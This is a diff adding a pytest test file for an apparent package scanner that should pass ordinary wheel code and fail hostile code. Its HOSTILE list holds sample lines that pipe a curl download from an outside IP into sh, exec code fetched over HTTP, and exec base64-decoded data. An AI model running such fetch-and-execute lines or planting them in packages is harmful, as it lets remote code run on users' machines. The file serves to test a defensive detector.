@@ -1,0 +1,64 @@
+"""Code of packages for programs: what waits for a caller passes, what is hostile does not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from modelkeep.core import Severity, Verdict
+from modelkeep.scan import BUILT_IN, scan_artifact
+from modelkeep.sources import open_artifact
+from samples import zip_of
+
+METADATA = b"Metadata-Version: 2.1\nName: pack\nVersion: 1.0\n"
+
+
+def verdict(path: Path) -> Verdict:
+    result = scan_artifact(open_artifact(path), BUILT_IN)
+    failed = any(f.severity >= Severity.HIGH for f in result.findings)
+    return Verdict.FAIL if failed else Verdict.PASS
+
+
+def wheel(folder: Path, code: str) -> Path:
+    members = {"pack/tool.py": code.encode(), "pack-1.0.dist-info/METADATA": METADATA}
+    path = folder / "pack-1.0-py3-none-any.whl"
+    path.write_bytes(zip_of(members))
+    return path
+
+
+ORDINARY = [
+    "import subprocess\ndef open_url(url):\n    subprocess.Popen(['xdg-open', url])\n",
+    "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', '1'])\n",
+    "import sys\nclass Finder:\n    pass\nsys.meta_path.append(Finder())\n",
+    "import ctypes\nlibrary = ctypes.WinDLL('kernel32', use_last_error=True)\n",
+    "import types\nKINDS = {types.CodeType: 1, types.FunctionType: 2}\n",
+    "import sys, pty\nif sys.argv and __name__ == '__main__':\n    pty.spawn(sys.argv)\n",
+    "def run(source, names):\n    exec(source, names)\n",
+]
+HOSTILE = [
+    "import os\nos.system('true')\n",
+    "import os\ndef main():\n    os.system('curl http://203.0.113.5/a | sh')\n",
+    "import subprocess\ndef f():\n    subprocess.run(['sh', '-c', 'curl http://203.0.113.5/a|sh'])\n",
+    "import base64\ndef f():\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n",
+    "import requests\ndef f():\n    exec(requests.get('https://203.0.113.5/a').text)\n",
+    "import ctypes\nctypes.CDLL(None).system(b'true')\n",
+]
+
+
+@pytest.mark.parametrize("code", ORDINARY)
+def test_what_waits_for_its_caller_in_a_wheel_passes(tmp_path: Path, code: str) -> None:
+    assert verdict(wheel(tmp_path, code)) is Verdict.PASS
+
+
+@pytest.mark.parametrize("code", HOSTILE)
+def test_what_is_hidden_hostile_or_runs_at_import_fails(tmp_path: Path, code: str) -> None:
+    assert verdict(wheel(tmp_path, code)) is Verdict.FAIL
+
+
+def test_a_source_tree_is_a_library_until_a_model_lies_in_it(tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'pack'\n")
+    (tmp_path / "tool.py").write_text(ORDINARY[0])
+    assert verdict(tmp_path) is Verdict.PASS
+    (tmp_path / "config.json").write_text("{}")
+    assert verdict(tmp_path) is Verdict.FAIL
